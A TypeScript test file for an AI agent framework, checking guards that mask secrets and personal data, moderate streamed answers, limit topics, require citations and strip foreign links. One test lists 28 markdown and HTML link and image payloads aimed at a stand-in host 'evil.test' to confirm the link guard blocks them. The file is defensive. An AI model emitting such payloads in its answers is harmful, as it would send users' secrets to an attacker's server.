// Texts that a guard has taken away or hidden: no output, model, tool, journal or database shows one.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type ChatMessage,
  type ChatModel,
  type ChatReply,
  createRuntime,
  defineMachine,
  defineState,
  defineWorkflow,
  final,
  memoryStore,
  node,
  type RunEvent,
  type TextGuard,
  waiting,
} from 'agent-machines';
import { limitTopics, maskPersonalData, maskSecrets, moderate, requireCitations, stripForeignLinks } from 'agent-machines/guards';
import { chatAgent } from 'agent-machines/machines/chat-agent';
import { planExecute } from 'agent-machines/machines/plan-execute';
import { toolAgent } from 'agent-machines/machines/tool-agent';
import { agUiRoutes, aiSdkRoutes, openaiRoutes } from 'agent-machines/server';
import { exportRun } from 'agent-machines/stores';
import { sqliteStore } from 'agent-machines/stores/sqlite';
import { tracedStore } from 'agent-machines/telemetry';
import { crashResume } from 'agent-machines/testing';
import { asTool, defineTool } from 'agent-machines/tools';
import { describe, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { command } from '../cli/command.ts';
import { serve } from '../fixtures/served.ts';
import { spanRecorder } from '../fixtures/span-recorder.ts';

const usage = { inputTokens: 1, outputTokens: 1 };
type Call = readonly [name: string, args: object];
const reply = (text: string, calls: readonly Call[] = []): ChatReply => ({
  text,
  toolCalls: calls.map(([name, args], index) => ({ id: `c${index}`, name, arguments: JSON.stringify(args) })),
  usage,
  model: 'm',
  cached: false,
});
type Turn = (messages: readonly ChatMessage[]) => ChatReply | Promise<ChatReply>;
/** Answers each request by the next turn, in pieces of three characters, and keeps what it has read. */
function modelOf(...turns: readonly Turn[]): ChatModel & { readonly read: string[] } {
  const read: string[] = [];
  return {
    name: 'm',
    read,
    async generate({ messages, onToken }) {
      const turn = turns[Math.min(read.length, turns.length - 1)];
      read.push(JSON.stringify(messages));
      const made = (await turn?.(messages)) ?? reply('');
      for (const piece of made.text.match(/[\s\S]{1,3}/g) ?? []) onToken?.(piece);
      return made;
    },
  };
}
const last = (messages: readonly ChatMessage[]): string => messages.at(-1)?.content ?? '';
const lookup = (execute: (args: { readonly q: string }) => unknown | Promise<unknown>, name = 'lookup') =>
  defineTool({
    name,
    description: 'Looks something up.',
    access: 'compute',
    input: z.strictObject({ q: z.string() }),
    execute: async (args) => (await execute(args)) as never,
  });
async function eventsOf(runtime: ReturnType<typeof createRuntime>, id: string): Promise<readonly RunEvent[]> {
  const events: RunEvent[] = [];
  for await (const event of runtime.events(id)) events.push(event);
  return events;
}

describe('maskSecrets', () => {
  const canary = 'sk-proj-Canary0123456789Canary';
  const places: Readonly<
    Record<
      string,
      () => {
        model: ChatModel;
        input: string;
        execute?: () => unknown;
      }
    >
  > = {
    input: () => ({ model: modelOf((messages) => reply(`You said: ${last(messages)}`)), input: `My key is ${canary}.` }),
    'tool output': () => ({
      model: modelOf(
        () => reply('', [['lookup', { q: 'x' }]]),
        (messages) => reply(`It says ${last(messages)}`),
      ),
      input: 'look',
      execute: () => ({ page: `line\n${canary}`, password: 'x', deep: [[canary]] }),
    }),
    'tool error': () => ({
      model: modelOf(
        () => reply('', [['lookup', { q: 'x' }]]),
        (messages) => reply(`It failed: ${last(messages)}`),
      ),
      input: 'look',
      execute: () => {
        throw new Error(`refused ${canary}`);
      },
    }),
    'model error': () => ({
      model: modelOf(() => {
        throw new Error(`401 for ${canary}`);
      }),
      input: 'ask',
    }),
    answer: () => ({ model: modelOf(() => ({ ...reply(`The key: ${canary}\nis yours.`), reasoning: `I know ${canary}` })), input: 'ask' }),
  };

  it.each(Object.keys(places))('leaves nothing of a key in %s', async (place) => {
    const folder = mkdtempSync(join(tmpdir(), 'agent-machines-guards-'));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    const path = join(folder, 'runs.db');
    const { provider, spans } = spanRecorder();
    const store = tracedStore(sqliteStore({ path }), { tracerProvider: provider, content: true });
    const made = places[place]?.();
    if (!made) throw new Error(place);
    const workflow = toolAgent({ model: made.model, tools: [lookup(() => made.execute?.())], guards: [maskSecrets()] });
    const runtime = createRuntime({ store, workflows: [workflow] });
    const run = runtime.start(workflow, { input: made.input }, { threadId: 't' });
    const live: RunEvent[] = [];
    for await (const event of run.events()) live.push(event);
    const result = await run.result;
    const journal = JSON.stringify(await store.journal(run.id));
    const terminal = [];
    for (const args of [
      ['show', run.id],
      ['show', run.id, '--json'],
    ]) {
      const { stdout, stderr } = await command(folder, [...args, '--db', path]);
      terminal.push(stdout, stderr);
    }
    const outputs = {
      result,
      live,
      journal,
      events: await eventsOf(runtime, run.id),
      exported: await exportRun(store, run.id, { snapshot: true }),
      thread: await store.readThread('t'),
      read: 'read' in made.model ? made.model.read : '',
      terminal,
      spans,
      bytes: readdirSync(folder).map((name) => readFileSync(join(folder, name), 'latin1')),
    };
    for (const [output, value] of Object.entries(outputs)) expect(JSON.stringify(value).includes('Canary0123'), output).toBe(false);
    expect(journal).toContain('[secret]');
    if (place !== 'model error' && place !== 'tool error') expect(JSON.stringify(outputs.events)).toContain('"guard":"mask-secrets"');
    await runtime.close();
  });

  it('leaves nothing of a key in an event of a human, or after a crash at every write', async () => {
    const state = defineState<{ said: string }, { first: string }, string, { type: 'SAY'; text: string }>({
      events: {
        SAY: {
          parse: (event) => event as { type: 'SAY'; text: string },
          patch: (_, { text }) => ({ said: text }),
        },
      },
      onError: () => ({}),
    });
    const machine = defineMachine(state, {
      id: 'asks',
      initial: 'work',
      context: ({ first }) => ({ said: first }),
      output: ({ said }) => said,
      states: {
        work: node('work', { done: 'ask', error: 'failed' }),
        ask: waiting({ SAY: 'done' }),
        done: final(),
        failed: final('failure'),
      },
    });
    const workflow = defineWorkflow({ machine, guards: [maskSecrets()], nodes: { work: async () => ({}) } });
    const journals: string[] = [];
    const { result } = await crashResume(
      workflow,
      { first: `key ${canary}` },
      { answer: () => ({ type: 'SAY', text: `it is ${canary}` }), onCrash: ({ journal }) => void journals.push(JSON.stringify(journal)) },
    );
    expect(result).toMatchObject({ status: 'done', output: 'it is [secret]' });
    expect(journals.length).toBeGreaterThan(2);
    expect(journals.join()).not.toContain('Canary');
    const runtime = createRuntime();
    const run = runtime.start(workflow, { first: `key ${canary}` });
    await run.result;
    expect(await eventsOf(runtime, run.id)).toContainEqual(expect.objectContaining({ type: 'guard', border: 'input', verdict: 'mask' }));
  });
});

describe('maskPersonalData', () => {
  const secretive = /kim@example|1234-5678/;

  it('hides values in a workflow that is called as a tool, and gives its tool the value', async () => {
    const sent: string[] = [];
    const inner = modelOf(
      () => reply('', [['send', { q: '<EMAIL_1>' }]]),
      () => reply('sent to <EMAIL_1>'),
    );
    const outer = modelOf(
      () =>
        reply('', [
          ['mailer', { input: 'mail <EMAIL_1>' }],
          ['mailer', { input: 'mail <PHONE_1>' }],
        ]),
      (messages) => reply(`Done: ${last(messages)}`),
    );
    const mailer = toolAgent({ id: 'mailer', model: inner, tools: [lookup(({ q }) => sent.push(q), 'send')] });
    const agent = toolAgent({
      model: outer,
      tools: [asTool(mailer, { name: 'mailer', description: 'Mails.' })],
      guards: [maskPersonalData()],
    });
    const run = createRuntime().start(agent, { input: 'Mail kim@example.com, or call 010-1234-5678' });
    expect(await run.result).toMatchObject({ status: 'done' });
    expect([...outer.read, ...inner.read].filter((read) => secretive.test(read))).toEqual([]);
    expect(sent).toContain('kim@example.com');
  });

  it('hides values in later turns, in a chat with memory, and in a plan', async () => {
    const model = modelOf((messages) => reply(/EMAIL_1/.test(JSON.stringify(messages)) ? 'I know <EMAIL_1>.' : 'Nothing.'));
    const runtime = createRuntime();
    const chat = chatAgent({ models: { 'chat_agent.agent': model }, tools: [], guards: [maskPersonalData()] });
    for (const input of ['I am kim@example.com', 'My number: 010-1234-5678', 'Who am I?']) {
      const result = await runtime.start(chat, { input }, { threadId: 'chat' }).result;
      expect(result).toMatchObject({ status: 'done', output: { answer: 'I know kim@example.com.' } });
    }
    expect(model.read.filter((read) => secretive.test(read))).toEqual([]);

    const asked: string[] = [];
    const planner = modelOf(
      () => reply(JSON.stringify({ intent: 'new_question', rewritten_query: 'Look up <EMAIL_1>', needs_tool: true, constraints: null })),
      () => reply(JSON.stringify({ steps: [{ step_id: 1, tool: 'lookup', input: '<EMAIL_1>' }] })),
      () => reply('Found <EMAIL_1>.'),
    );
    const plan = planExecute({ model: planner, tools: [lookup(({ q }) => asked.push(q))], guards: [maskPersonalData()] });
    const planned = await runtime.start(plan, { input: 'Look up kim@example.com' }).result;
    expect(planned).toMatchObject({ status: 'done', output: { answer: 'Found kim@example.com.' } });
    expect(planner.read.filter((read) => secretive.test(read))).toEqual([]);
    expect(asked).toEqual(['kim@example.com']);
  });

  it('shows a trace its verdict and no value', async () => {
    const { provider, spans } = spanRecorder();
    const model = modelOf(
      () => reply('', [['lookup', { q: '<EMAIL_1>' }]]),
      () => reply('Found <EMAIL_1>.'),
    );
    const agent = toolAgent({ model, tools: [lookup(({ q }) => q)], guards: [maskPersonalData()] });
    const store = tracedStore(memoryStore(), { tracerProvider: provider });
    expect(await createRuntime({ store }).start(agent, { input: 'Who is kim@example.com?' }).result).toMatchObject({ status: 'done' });
    const trace = JSON.stringify(spans);
    expect(trace).toContain('"agent_machines.guard.reason":"1 × email"');
    expect(trace).not.toMatch(secretive);
  });

  it('restores a typed answer', async () => {
    const agent = toolAgent({
      model: modelOf(() => reply('{"to":"\\u003cEMAIL_1>","copy":["<EMAIL_1>"]}')),
      tools: [],
      output: z.object({ to: z.string(), copy: z.array(z.string()) }),
      guards: [maskPersonalData(), maskSecrets()],
    });
    const result = await createRuntime().start(agent, { input: 'I am kim@example.com' }).result;
    expect(result).toMatchObject({ status: 'done', output: { output: { to: 'kim@example.com', copy: ['kim@example.com'] } } });
  });

  it('restores the same value in a fork, which masks again', async () => {
    const model = modelOf((messages) => reply(`I am told: ${last(messages)}`));
    const runtime = createRuntime();
    const agent = toolAgent({ model, tools: [], guards: [maskPersonalData()] });
    const run = runtime.start(agent, { input: 'kim@example.com' });
    const first = await run.result;
    const fork = await runtime.fork(run.id, { at: 'agent#1' });
    expect(await fork.result).toMatchObject({ status: 'done', output: first.status === 'done' ? first.output : null });
    expect(model.read).toHaveLength(2);
    expect(model.read.join()).not.toMatch(secretive);
  });
});

describe('answers through the protocols', () => {
  const attacks = [
    '![p](https://evil.test/?d=SECRET)',
    '![p]( https://evil.test/?d=SECRET "t")',
    '![p](<https://evil.test/?d=SECRET>)',
    '[click](https://evil.test/?d=SECRET)',
    '[![a](https://evil.test/SECRET.png)](https://evil.test/SECRET)',
    '![p][r]\n\n[r]: https://evil.test/?d=SECRET\n',
    '<img src="https://evil.test/?d=SECRET">',
    '<img src=//evil.test/SECRET>',
    "<a href='https://evil.test/SECRET'>x</a>",
    '<https://evil.test/SECRET>',
    'see https://evil.test/SECRET now',
    '![p](//evil.test/SECRET)',
    '![p](HTTPS://EVIL.TEST/SECRET)',
    '![p](https://example.com@evil.test/SECRET)',
    '![p](https://example.com.evil.test/SECRET)',
    '![p](https://evil.test/a(b)SECRET)',
    '![a\n![b](https://evil.test/SECRET)',
    '[x](data:text/html,SECRET)',
    "[x](javascript:alert('SECRET'))",
    '![p](https&#58;//evil.test/SECRET)',
    '<div style="background:url(https://evil.test/SECRET)">',
    '![p](https://evil.test/SECRET',
    `![](https://evil.test/${'a'.repeat(3_000)}SECRET)`,
    'h<https://evil.test/SECRET>',
    '(https://evil.test/SECRET)',
    '[a](https://docs.evil.test/page?SECRET)',
    '![x](ht\ntps://evil.test/SECRET)',
    '<svg><image href="https://evil.test/SECRET"/></svg>',
  ];
  const kept = [
    'See [docs](https://example.com/a?x=1) and ![i](https://cdn.example.com/i.png).',
    'a < b and [1] and array[i] (note) ! done',
    '[source](https://docs.evil.test/page)',
    'Use `x => y` <b>bold</b>, 제5조[계약] (주석)',
    'https://example.com/x, and [here](/local/path)',
    'Price! [sic] https',
    '| a | b |\n|---|---|\n| [1](#a) | ![l](logo.png) |',
  ];
  const messages = [{ id: 'm1', role: 'user', content: 'Read https://docs.evil.test/page please' }];
  interface Chunk {
    readonly type?: string;
    readonly delta?: string;
    readonly choices?: readonly { readonly delta?: { readonly content?: string } }[];
  }
  const chunksOf = (stream: string): readonly Chunk[] => [...stream.matchAll(/^data: (\{.*)$/gm)].map(([, data = '']) => JSON.parse(data));

  function shownBy(said: string, guards: readonly TextGuard[]) {
    const make = () => {
      const workflow = toolAgent({ model: modelOf(() => reply(said)), tools: [], guards });
      const runtime = createRuntime({ store: memoryStore(), workflows: [workflow as never] });
      onTestFinished(() => runtime.close());
      const space = { runtime, workflows: [{ id: 'agent', workflow: workflow as never }] };
      return { openai: openaiRoutes(space), agUi: agUiRoutes(space), aiSdk: aiSdkRoutes(space) };
    };
    const post = async (app: keyof ReturnType<typeof make>, path: string, body: object): Promise<string> => {
      const headers = { 'content-type': 'application/json' };
      return (await make()[app].request(path, { method: 'POST', headers, body: JSON.stringify(body) })).text();
    };
    const joined = (stream: string, textOf: (chunk: Chunk) => string) => ({
      whole: stream,
      text: chunksOf(stream)
        .map((chunk) => textOf(chunk))
        .join(''),
    });
    const parts = [{ type: 'text', text: messages[0]?.content }];
    const chat = { model: 'agent', messages };
    return {
      openai: async () => {
        const whole = await post('openai', '/v1/chat/completions', chat);
        return { whole, text: String(JSON.parse(whole).choices?.[0].message.content ?? '') };
      },
      'openai stream': async () =>
        joined(
          await post('openai', '/v1/chat/completions', { ...chat, stream: true }),
          ({ choices }) => choices?.[0]?.delta?.content ?? '',
        ),
      'ag-ui': async () =>
        joined(await post('agUi', '/api/ag-ui/agent', { threadId: 't', runId: 'r', messages, state: {} }), ({ type, delta }) =>
          type === 'TEXT_MESSAGE_CONTENT' ? (delta ?? '') : '',
        ),
      'ai-sdk': async () =>
        joined(await post('aiSdk', '/api/ai-sdk/agent', { id: 't', messages: [{ id: 'm1', role: 'user', parts }] }), ({ type, delta }) =>
          type === 'text-delta' ? (delta ?? '') : '',
        ),
    };
  }
  const guards = [stripForeignLinks({ hosts: ['example.com', '*.example.com'] })];
  /** True if a renderer could make a link or an image of the secret. */
  const leaks = (text: string): boolean => /(?:\]\(|\]:|<|https?:|https?&|data:|javascript:|www\.)[\s\S]*SECRET/i.test(text);

  it('have no foreign link of 28 attacks', async () => {
    expect(attacks).toHaveLength(28);
    for (const attack of attacks) {
      for (const [protocol, shown] of Object.entries(shownBy(attack, guards))) {
        const { whole, text } = await shown();
        expect([protocol, attack, leaks(text)]).toEqual([protocol, attack, false]);
        expect([protocol, attack, /https?:[^"]*SECRET/i.test(whole)]).toEqual([protocol, attack, false]);
        expect([protocol, attack, text === '']).toEqual([protocol, attack, false]);
      }
    }
  });

  it('keep the texts of 7 harmless answers', async () => {
    for (const answer of kept) {
      for (const [protocol, shown] of Object.entries(shownBy(answer, guards)))
        expect([protocol, (await shown()).text]).toEqual([protocol, answer]);
    }
  });

  it('show nothing of an answer that a moderation holds back or stops', async () => {
    const judged = [moderate({ check: (text) => (text.includes('SECRET') ? 'violence' : undefined) })];
    for (const [protocol, shown] of Object.entries(shownBy('First a word. Then SECRET.', judged))) {
      const { whole, text } = await shown();
      expect([protocol, /First|SECRET/.test(whole), text.includes('First')]).toEqual([protocol, false, false]);
    }
  });
});

describe('other guards', () => {
  const ask = async (options: Parameters<typeof toolAgent>[0], input = 'q') => createRuntime().start(toolAgent(options), { input }).result;

  it('limit the topics before the model is asked, once a turn', async () => {
    const checked: string[] = [];
    const model = modelOf(
      () => reply('', [['lookup', { q: 'x' }]]),
      () => reply('A bicycle.'),
    );
    const guards = [limitTopics({ isAllowed: async (text) => checked.push(text) > 0 && /bicycle/.test(text) })];
    expect(await ask({ model, tools: [lookup(() => 'x')], guards }, 'a bicycle?')).toMatchObject({ status: 'done' });
    expect(checked).toHaveLength(1);
    const repaired = modelOf(
      () => reply('no JSON'),
      () => reply('{"answer":"a bicycle"}'),
    );
    const form = { output: z.object({ answer: z.string() }), tools: [], guards };
    expect(await ask({ model: repaired, ...form }, 'a bicycle?')).toMatchObject({ status: 'done' });
    expect([repaired.read.length, checked.length]).toEqual([2, 2]);
    const other = modelOf(() => reply('no'));
    expect(await ask({ model: other, tools: [], guards }, 'a car?')).toMatchObject({ status: 'failed', error: { code: 'GUARD_STOPPED' } });
    expect(other.read).toEqual([]);
  });

  it('show no progress that a guard has not passed at once', async () => {
    const show = async (guards: readonly TextGuard[]): Promise<string> => {
      const tool = defineTool({
        name: 'lookup',
        description: 'Looks something up.',
        access: 'compute',
        input: z.strictObject({}),
        execute: async (_, { emit }) => {
          emit?.({ seen: 'risky' });
          return 'ok';
        },
      });
      const model = modelOf(
        () => reply('', [['lookup', {}]]),
        () => reply('done'),
      );
      const run = createRuntime().start(toolAgent({ model, tools: [tool], guards }), { input: 'q' });
      const shown: string[] = [];
      for await (const event of run.events()) if (event.type === 'custom') shown.push(JSON.stringify(event.data));
      return shown.join();
    };
    const guardOf = (check: TextGuard['check']): readonly TextGuard[] => [{ name: 'risk', at: ['tool-result'], check }];
    expect(await show([])).toContain('risky');
    expect(await show(guardOf((text) => ({ as: 'mask', text: text.replace('risky', '***') })))).toContain('{"seen":"***"}');
    expect(await show(guardOf(async () => ({ as: 'pass' })))).toBe('');
  });

  it('require true citations after a tool has answered', async () => {
    const answers = (text: string) => ({
      model: modelOf(
        () => reply('', [['lookup', { q: 'x' }]]),
        () => reply(text),
      ),
      tools: [lookup(() => 'rules.md: Visitors sign in at the front desk. https://a.example/rules')],
      guards: [requireCitations()],
    });
    expect(await ask(answers('“Visitors sign in at the front desk” (rules.md)'))).toMatchObject({ status: 'done' });
    expect(await ask(answers('See https://a.example/rules.'))).toMatchObject({ status: 'done' });
    for (const wrong of ['They sign in.', '“Visitors wear red hats in the lobby”', 'See https://b.example/.', 'See other.md.'])
      expect(await ask(answers(wrong))).toMatchObject({ status: 'failed', error: { code: 'GUARD_STOPPED', data: { border: 'answer' } } });
    expect(await ask({ model: modelOf(() => reply('Hello.')), tools: [], guards: [requireCitations()] })).toMatchObject({ status: 'done' });
  });

  it('withdraw a window that is shown, when a later one is refused, and end the request', async () => {
    let aborted = false;
    const model: ChatModel = {
      name: 'm',
      async generate({ onToken, signal }) {
        for (const word of ['All is well. ', 'Still well. ', 'Now BAD at last. ', ...Array(50).fill('More. ')]) {
          onToken?.(word);
          await new Promise((resolve) => setImmediate(resolve));
          if (signal?.aborted) {
            aborted = true;
            throw signal.reason;
          }
        }
        return reply('never');
      },
    };
    const checked: string[] = [];
    const guard = moderate({
      check: async (text) => {
        checked.push(text);
        return text.includes('BAD') ? 'violence' : undefined;
      },
      stream: { window: 10 },
    });
    const runtime = createRuntime();
    const run = runtime.start(toolAgent({ model, tools: [], guards: [guard] }), { input: 'q' });
    let shown = '';
    let mostShown = '';
    for await (const event of run.events()) {
      if (event.type === 'token') shown += event.text;
      if (event.type === 'step-reset') shown = '';
      if (shown.length > mostShown.length) mostShown = shown;
    }
    expect(await run.result).toMatchObject({ status: 'failed', error: { code: 'GUARD_STOPPED' } });
    expect([aborted, shown, mostShown]).toEqual([true, '', 'All is well. Still well. ']);
    expect(checked).toEqual(['All is well. ', 'All is well. Still well. ', 'Still well. Now BAD at last. ']);
  });

  it('check a window once, when all of them pass', async () => {
    let checks = 0;
    const guard = moderate({ check: () => void checks++, stream: { window: 8 } });
    const result = await ask({ model: modelOf(() => reply('One is good. Two is good. Three')), tools: [], guards: [guard] });
    expect(result).toMatchObject({ status: 'done', output: { answer: 'One is good. Two is good. Three' } });
    expect(checks).toBe(3);
  });

  it('refuse an input over HTTP, and store nothing of it', async () => {
    const refuse: TextGuard = {
      name: 'refuse',
      at: ['input'],
      check: (text) => {
        if (text.includes('broken')) throw new Error(text);
        return { as: 'stop', reason: 'no' };
      },
    };
    const workflow = toolAgent({ model: modelOf(() => reply('x')), tools: [], guards: [refuse] });
    const store = memoryStore();
    const runtime = createRuntime({ store, workflows: [workflow] });
    const { ask: post } = serve({ store, runtime, workflows: [workflow] });
    for (const [input, status, code] of [
      ['SECRET', 422, 'GUARD_STOPPED'],
      ['broken SECRET', 503, 'GUARD_FAILED'],
    ] as const) {
      const answer = await post('POST', '/api/runs', { workflow: 'tool_agent', input: { input } });
      expect(answer).toMatchObject({ status, body: { code } });
      expect(JSON.stringify(answer)).not.toContain('SECRET');
    }
    expect(await store.list({})).toEqual([]);
  });

  it('reject the journal of a run under another list of guards', async () => {
    const store = memoryStore();
    const tools = [{ ...lookup(() => 'x'), needsApproval: true }];
    const make = (guards: readonly TextGuard[]) =>
      toolAgent({
        model: modelOf(
          () => reply('', [['lookup', { q: 'x' }]]),
          () => reply('done'),
        ),
        tools,
        guards,
      });
    const run = createRuntime({ store }).start(make([]), { input: 'q' });
    expect(await run.result).toMatchObject({ status: 'waiting' });
    const same = await createRuntime({ store, workflows: [make([])] }).resume(run.id);
    expect(await same.result).toMatchObject({ status: 'waiting' });
    await expect(createRuntime({ store, workflows: [make([maskSecrets()])] }).resume(run.id)).rejects.toMatchObject({
      code: 'JOURNAL_OF_OTHER_MACHINE',
      message: expect.stringContaining('its guards have changed'),
    });
  });
});
